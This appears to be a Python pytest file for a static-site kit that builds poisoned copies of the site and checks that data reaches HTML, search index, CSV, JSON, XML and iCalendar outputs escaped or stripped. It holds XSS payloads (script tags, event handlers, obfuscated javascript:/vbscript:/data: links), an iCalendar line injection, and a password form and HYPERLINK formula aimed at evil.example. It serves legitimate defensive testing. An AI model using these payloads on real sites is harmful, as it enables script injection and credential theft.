"""Text from data files reaches pages, attributes, JSON, CSV, XML feeds and iCalendar escaped.

One copy of the kit is built with hostile text in the fields that allow it: Markdown and HTML
specials in names, titles and summaries (which may not hold tags), and ``<script>``, quotes and a
line break followed by iCalendar lines in free-text fields (venue access notes, pack audiences).
Every piece carries the marker ``lgds-xss`` so the tests can find where it went.

Rows for pages other issues are building skip ("page type not built yet") until those pages exist;
the per-format checks skip until some output of that format carries the test data.
"""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import dataclass
from pathlib import Path
from xml.etree import ElementTree

import pytest
from bs4 import BeautifulSoup

from lgds.standard.models import slugify

from .conftest import ROOT, copy_kit, mkdocs_build
from .quality_support import output_file

MARKER = "lgds-xss"
PLAIN = (
    "Fish & chips \"lgds-xss\" 'quoted' *not bold* _not em_ [not a link](javascript:lgds-xss) "
    "`not code` 1 < 2 > 0 | {curly} \\ back"
)
"""For fields that may not hold HTML tags but may hold any other character."""
POINT_TITLE = 'Keep "testing" & *researching* lgds-xss'
SCRIPT = (
    '<script>lgds-xss()</script> <img src=x onerror="lgds-xss()"> & "quotes" <b>lgds-xss bold</b>\n'
    "END:VEVENT\nBEGIN:VEVENT\nSUMMARY:lgds-xss-injected"
)
"""For free-text fields: markup, quotes, and a line break that tries to start a new calendar event."""
LINK = "https://example.org/book)lgds-xss(x"
"""A web address that passes the checks but, written into Markdown as it is, would close its own link.
(One that would also open another, ``...book)[x](javascript:...)``, is refused when it is loaded.)"""

POINT = "standard/14-keep-researching-and-testing.md"
POINT_URL = f"/standard/14-{slugify(POINT_TITLE)}/"
EVENT = "peer-groups/london/events/2027-02-10-reviewing-a-service-together.md"
EVENT_URL = "/peer-groups/london/events/2027-02-10-reviewing-a-service-together/"
PACK = "franchise-kit/packs/introducing-the-standard/pack.yml"
PACK_URL = "/franchise-kit/packs/introducing-the-standard/"
GROUP = "peer-groups/london/group.yml"
SIGNUP = "data/signups/cmd.yml"
REVIEW = "reviews/bas/2026-03-18-garden-waste-subscription.md"
REVIEW_URL = "/reviews/bas/2026-03-18-garden-waste-subscription/"


def _replace(text: str, old: str, new: str) -> str:
    assert text.count(old) == 1, f"expected {old!r} once"
    return text.replace(old, new)


def poisoned_files() -> dict[str, str | None]:
    """The kit's files with hostile text put in; YAML values are written as JSON strings."""
    point = (ROOT / POINT).read_text(encoding="utf-8")
    point = _replace(point, "title: Keep researching and testing", f"title: {json.dumps(POINT_TITLE)}")
    point = re.sub(r"(?m)^summary: .*$", lambda _: f"summary: {json.dumps(PLAIN)}", point, count=1)
    event = (ROOT / EVENT).read_text(encoding="utf-8")
    event = re.sub(r"(?m)^  access: .*$", lambda _: f"  access: {json.dumps(SCRIPT)}", event, count=1)
    event = _replace(event, "title: Reviewing a service together", f"title: {json.dumps(PLAIN)}")
    event = _replace(
        event, "booking: https://example.org/book/london-2027-02-10", f"booking: {json.dumps(LINK)}"
    )
    pack = (ROOT / PACK).read_text(encoding="utf-8")
    pack = re.sub(r"(?m)^audience: .*$", lambda _: f"audience: {json.dumps(SCRIPT)}", pack, count=1)
    pack = re.sub(r"(?m)^summary: .*$", lambda _: f"summary: {json.dumps(PLAIN)}", pack, count=1)
    group = (ROOT / GROUP).read_text(encoding="utf-8")
    group = _replace(group, "name: London peer group", f"name: {json.dumps(PLAIN)}")
    signup = f"council: CMD\nsigned: 2017-03-14\nnote: {json.dumps(PLAIN)}\n"
    review = (ROOT / REVIEW).read_text(encoding="utf-8")
    review = _replace(review, "service: Garden waste subscription", f"service: {json.dumps(PLAIN)}")
    review = re.sub(
        r"(?m)^    evidence: .*$", lambda _: f"    evidence: {json.dumps(PLAIN)}", review, count=1
    )
    review = re.sub(
        r"(?m)^      - Write the offline plan .*$", lambda _: f"      - {json.dumps(PLAIN)}", review
    )
    return {
        SIGNUP: signup,
        POINT: None,
        f"standard/14-{slugify(POINT_TITLE)}.md": point,
        EVENT: event,
        PACK: pack,
        GROUP: group,
        REVIEW: review,
    }


@pytest.fixture(scope="module")
def poisoned_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = copy_kit(tmp_path_factory.mktemp("poisoned") / "kit", poisoned_files())
    out = root.parent / "site"
    result = mkdocs_build(root, out)
    assert result.returncode == 0, result.stdout + result.stderr
    return out


@dataclass(frozen=True)
class Shown:
    """Where a piece of hostile text should appear, as plain text, in a page's main content."""

    id: str
    url: str
    text: str
    pending: str = ""


SHOWN = (
    Shown("point-title-on-standard-index", "/standard/", POINT_TITLE),
    Shown("point-summary-on-standard-index", "/standard/", PLAIN),
    Shown("point-title-on-its-page", POINT_URL, POINT_TITLE),
    Shown("point-summary-on-its-page", POINT_URL, PLAIN),
    Shown("event-title-on-its-page", EVENT_URL, PLAIN),
    Shown("venue-access-on-event-page", EVENT_URL, SCRIPT),
    Shown("event-title-on-events-page", "/events/", PLAIN),
    Shown("group-name-on-its-page", "/peer-groups/london/", PLAIN),
    Shown("pack-summary-on-its-page", PACK_URL, PLAIN),
    Shown("pack-audience-on-its-page", PACK_URL, SCRIPT),
    Shown("pack-audience-on-print-view", PACK_URL + "print/", SCRIPT),
    Shown("sign-up-note-on-council-page", "/councils/cmd/", PLAIN),
    Shown("review-service-on-its-scorecard", REVIEW_URL, PLAIN),
    Shown("review-evidence-on-its-scorecard", REVIEW_URL, PLAIN),
    Shown("review-service-on-reviews-page", "/reviews/", PLAIN),
    Shown("review-service-on-council-page", "/councils/bas/", PLAIN),
    Shown("review-recommendation-on-point-page", "/standard/9-make-a-plan-for-being-offline/", PLAIN),
)


def squash(text: str) -> str:
    return " ".join(text.split())


def main_text_nodes(html: str) -> list[str]:
    soup = BeautifulSoup(html, "lxml")
    article = soup.find("article") or soup
    return [squash(s) for s in article.find_all(string=True)]


@pytest.mark.parametrize("row", [pytest.param(r, id=r.id) for r in SHOWN])
def test_hostile_text_shows_as_written_in_one_piece_of_text(row, poisoned_site):
    page = output_file(poisoned_site, row.url)
    if not page.is_file():
        if row.pending:
            pytest.skip(f"page type not built yet: {row.url} (issue {row.pending})")
        pytest.fail(f"{row.url} is missing from the build")
    nodes = main_text_nodes(page.read_text(encoding="utf-8"))
    wanted = squash(row.text)
    # Whole, inside one text node: no element (emphasis, link, code, script) was made from any part.
    assert any(wanted in node for node in nodes), (
        f"{row.url} does not show {wanted!r} as plain text; closest pieces: "
        + repr([n for n in nodes if "lgds" in n or "Fish" in n][:5])
    )


RUNS_CODE = re.compile(r"^(on[a-z]+|style|srcdoc)$", re.IGNORECASE)
LINKS = re.compile(r"^(href|src|action|formaction|xlink:href)$", re.IGNORECASE)
SCRIPT_SCHEME = re.compile(r"^\s*(javascript|vbscript|data):", re.IGNORECASE)


def dangerous(name: str, value: str) -> bool:
    """An attribute that would run code, or a link that would, made from the data."""
    if RUNS_CODE.match(name):
        return MARKER in value
    return bool(LINKS.match(name)) and bool(SCRIPT_SCHEME.match(value))


def test_no_page_runs_or_links_hostile_text(poisoned_site):
    """Across every page: no script, event handler, link or style was made from the data."""
    found = []
    pages = sorted(poisoned_site.rglob("*.html"))
    for page in pages:
        soup = BeautifulSoup(page.read_text(encoding="utf-8"), "lxml")
        where = page.relative_to(poisoned_site).as_posix()
        for script in soup.find_all("script"):
            if MARKER in (script.string or ""):
                found.append(f"{where}: <script> holds the data")
        for tag in soup.find_all(True):
            for name, value in tag.attrs.items():
                value = " ".join(value) if isinstance(value, list) else str(value)
                if dangerous(name, value):
                    found.append(f"{where}: <{tag.name} {name}={value[:60]!r}>")
            if tag.name in ("img", "b") and MARKER in str(tag):
                found.append(f"{where}: a <{tag.name}> element was made from the data")
    assert pages and not found, "\n".join(found)


def test_a_web_address_from_data_is_one_link_to_where_it_says(poisoned_site):
    """Percent-encoded where it is written, the booking link cannot close itself and open another."""
    page = BeautifulSoup(
        (poisoned_site / EVENT_URL.strip("/") / "index.html").read_text(encoding="utf-8"), "lxml"
    )
    booking = [
        a["href"] for a in page.select("article a[href]") if a["href"].startswith("https://example.org/book")
    ]
    assert booking == ["https://example.org/book%29lgds-xss%28x"]
    assert not [a for a in page.select("article a[href]") if "javascript" in a["href"].split(":")[0]]


def test_search_index_holds_the_data_as_escaped_html(poisoned_site):
    """Material shows search results as HTML, so the index must hold ``&lt;`` and ``&amp;``, not tags."""
    index = json.loads((poisoned_site / "search" / "search_index.json").read_text(encoding="utf-8"))
    texts = [
        doc["title"] + " " + doc["text"] for doc in index["docs"] if MARKER in doc["text"] + doc["title"]
    ]
    assert texts, "the test data is not in the search index"
    joined = " ".join(texts)
    assert "1 &lt; 2 &gt; 0" in joined
    assert "Fish &amp; chips" in joined
    assert "<script>lgds-xss" not in joined and "<img src=x" not in joined


# --- Other formats: each skips until some output of that format carries the test data -------------


def outputs_with_marker(site: Path, *suffixes: str) -> list[Path]:
    return [
        p
        for p in sorted(site.rglob("*"))
        if p.is_file() and p.suffix in suffixes and MARKER.encode() in p.read_bytes()
    ]


def require(files: list[Path], what: str) -> list[Path]:
    if not files:
        pytest.skip(f"no {what} output carries data from files yet (feeds and data downloads: issues #3, #4)")
    return files


def test_calendar_feeds_hold_the_data_as_text_not_new_events(poisoned_site):
    from icalendar import Calendar

    for path in require(outputs_with_marker(poisoned_site, ".ics"), "iCalendar"):
        calendar = Calendar.from_ical(path.read_bytes())
        summaries = [str(event.get("summary")) for event in calendar.walk("VEVENT")]
        assert "lgds-xss-injected" not in summaries, f"{path.name}: the data started a new event"
        values = [str(v) for event in calendar.walk("VEVENT") for v in event.values()]
        assert any(SCRIPT in v or PLAIN in v for v in values), f"{path.name}: the data was changed"


def test_csv_downloads_hold_the_data_in_one_cell(poisoned_site):
    for path in require(outputs_with_marker(poisoned_site, ".csv"), "CSV"):
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
        widths = {len(row) for row in rows if row}
        assert len(widths) == 1, f"{path.name}: rows have different numbers of cells, {widths}"
        cells = [cell for row in rows for cell in row]
        assert any(cell in (SCRIPT, PLAIN) for cell in cells), f"{path.name}: the data was split or changed"


def test_json_outputs_parse_and_hold_the_data_unchanged(poisoned_site):
    files = [p for p in outputs_with_marker(poisoned_site, ".json") if p.parts[-2:-1] != ("search",)]
    for path in require(files, "JSON (other than the search index)"):
        text = json.dumps(json.loads(path.read_text(encoding="utf-8")), ensure_ascii=False)
        assert (
            json.dumps(PLAIN, ensure_ascii=False)[1:-1] in text
            or json.dumps(SCRIPT, ensure_ascii=False)[1:-1] in text
        ), f"{path.name}: the data was changed"


def test_xml_feeds_are_well_formed_and_never_carry_live_markup(poisoned_site):
    for path in require(outputs_with_marker(poisoned_site, ".xml", ".atom", ".rss"), "XML feed"):
        tree = ElementTree.parse(path)  # raises if the data broke the XML
        for element in tree.iter():
            text = element.text or ""
            if MARKER in text and element.get("type") in ("html", "xhtml"):
                assert "<script>lgds-xss" not in text, f"{path.name}: feed HTML carries a live <script>"


# --- No script, no markup from data (issue 12): Markdown bodies are cleaned, CSV cells are not formulas --
#
# One copy of the kit, built without --strict (so the warnings about what is taken out do not stop it),
# has hostile HTML and links in every kind of contributor's Markdown, and formulas in data. The reader
# must get none of it: no script, event handler, frame, object, form or style, and no `javascript:`,
# `vbscript:` or `data:` link, whatever the spelling; formatting and text around them stay.

KEPT = "lgds-kept"
HOSTILE_BODIES = {
    POINT: '<script>lgds-xss()</script>\n\n<p onclick="lgds-xss()">Click lgds-kept-1</p>\n',
    EVENT: (
        "[Slides lgds-kept-2](javascript:lgds_xss())\n\n[Notes](JaVaScRiPt:lgds_xss())\n\n"
        'A paragraph lgds-kept-3\n{: onmouseover="lgds-xss()" }\n\n**bold lgds-kept-4**\n'
    ),
    "peer-groups/london/index.md": (
        '<iframe src="https://evil.example/lgds-xss"></iframe>\n\n<object data="lgds-xss.swf"></object>'
        '<embed src="lgds-xss.swf">\n\n| a | b |\n|--:|:-:|\n| lgds-kept-5 | 2 |\n'
    ),
    "franchise-kit/packs/introducing-the-standard/notes.md": (
        '<img src="x" onerror="lgds-xss()">\n\n<form action="https://evil.example/lgds-xss">'
        '<input name="password" value="lgds-xss"></form>\n'
    ),
    "franchise-kit/packs/introducing-the-standard/activities/welcome.md": (
        '<a href="&#x6A;avascript:lgds-xss()">entity lgds-kept-6</a> and <a href="java&#x09;script:lgds-xss()">tab</a>\n'
    ),
    "franchise-kit/packs/introducing-the-standard/handouts/points-on-a-page.md": (
        "[mixed](VbScRiPt:lgds-xss)\n\n![picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImxnZHMteHNzIj4=)\n"
    ),
    "standard/index.md": "<style>body { display: none } /* lgds-xss */</style>\n\n<details><summary>lgds-kept-7</summary>x</details>\n",
    "franchise-kit/guide/starting-a-group.md": (
        '<svg onload="lgds-xss()"><circle r="1"/></svg>\n\n[x](data:text/html,lgds-xss) <b>lgds-kept-8</b>\n'
    ),
}
FORMULA = '=HYPERLINK("https://evil.example/lgds-xss","Click")'
REGISTER_FORMULA = "@SUM(1+1) lgds-formula"
"""(Shown as text in the kit's own SVG map and filter form, so it carries a marker of its own.)"""


def hostile_markdown_files() -> dict[str, str | None]:
    files: dict[str, str | None] = {
        path: (ROOT / path).read_text(encoding="utf-8").rstrip("\n") + "\n\n" + added
        for path, added in HOSTILE_BODIES.items()
    }
    files[SIGNUP] = f"council: CMD\nsigned: 2017-03-14\nnote: {json.dumps(FORMULA)}\n"
    register = (ROOT / "data/councils.csv").read_text(encoding="utf-8")
    files["data/councils.csv"] = _replace(
        register, "ADU,Adur District Council,Adur,", f"ADU,Adur District Council,{REGISTER_FORMULA},"
    )
    return files


@pytest.fixture(scope="module")
def cleaned_site(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    root = copy_kit(tmp_path_factory.mktemp("hostile-markdown") / "kit", hostile_markdown_files())
    out = root.parent / "site"
    result = mkdocs_build(root, out, strict=False)
    assert result.returncode == 0, result.stdout + result.stderr
    return root, out


REMOVED = {"script", "style", "iframe", "object", "embed", "form", "svg", "input", "frame", "math"}


def test_no_page_keeps_script_or_markup_a_contributor_wrote(cleaned_site):
    _, site = cleaned_site
    found = []
    for page in sorted(site.rglob("*.html")):
        soup = BeautifulSoup(page.read_text(encoding="utf-8"), "lxml")
        where = page.relative_to(site).as_posix()
        for tag in (soup.find("article") or soup).find_all(True):
            if tag.name in REMOVED and MARKER in str(tag):
                found.append(f"{where}: <{tag.name}>")
            for name, value in tag.attrs.items():
                value = " ".join(value) if isinstance(value, list) else str(value)
                if name.lower().startswith("on") or dangerous(name, value):
                    found.append(f"{where}: <{tag.name} {name}={value[:60]!r}>")
    assert not found, "\n".join(found)


def test_what_is_taken_out_leaves_the_text_and_formatting_around_it(cleaned_site):
    _, site = cleaned_site
    pages = {p: p.read_text(encoding="utf-8") for p in site.rglob("*.html")}
    text = " ".join(BeautifulSoup(html, "lxml").get_text(" ") for html in pages.values())
    for number in range(1, 9):
        assert f"{KEPT}-{number}" in text, f"{KEPT}-{number} is missing from every page"
    joined = "\n".join(pages.values())
    assert "<strong>bold lgds-kept-4</strong>" in joined
    assert '<td style="text-align:right">lgds-kept-5</td>' in joined
    assert "<summary>lgds-kept-7</summary>" in joined


def test_search_index_holds_nothing_that_was_taken_out(cleaned_site):
    """Material shows results as HTML: no element or attribute taken out of a page may be in the index."""
    _, site = cleaned_site
    index = json.loads((site / "search" / "search_index.json").read_text(encoding="utf-8"))
    assert any("lgds-kept-1" in doc["text"] for doc in index["docs"])
    found = []
    for doc in index["docs"]:
        for tag in BeautifulSoup(doc["title"] + " " + doc["text"], "lxml").find_all(True):
            attributes = " ".join(f"{k}={v}" for k, v in tag.attrs.items())
            if tag.name in REMOVED or MARKER in attributes:
                found.append(f"{doc['location']}: <{tag.name} {attributes[:60]}>")
    assert not found, "\n".join(found)


def test_spreadsheet_formulas_in_data_are_defused_in_published_csv(cleaned_site):
    root, site = cleaned_site
    signups = list(csv.DictReader(io.StringIO((site / "data" / "signups.csv").read_text(encoding="utf-8"))))
    assert [r["note"] for r in signups if r["council"] == "CMD"] == ["'" + FORMULA]
    register = list(csv.DictReader(io.StringIO((site / "data" / "councils.csv").read_text(encoding="utf-8"))))
    adur = next(r for r in register if r["code"] == "ADU")
    assert adur["short_name"] == "'" + REGISTER_FORMULA
    assert adur["lon"].startswith("-")  # a plain number is left as it is
    cells = [cell for row in register for cell in row.values()]
    assert not [
        c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c[1:2].isdigit())
    ]
    # The repository's own file is not changed.
    assert f",{REGISTER_FORMULA}," in (root / "data" / "councils.csv").read_text(encoding="utf-8")
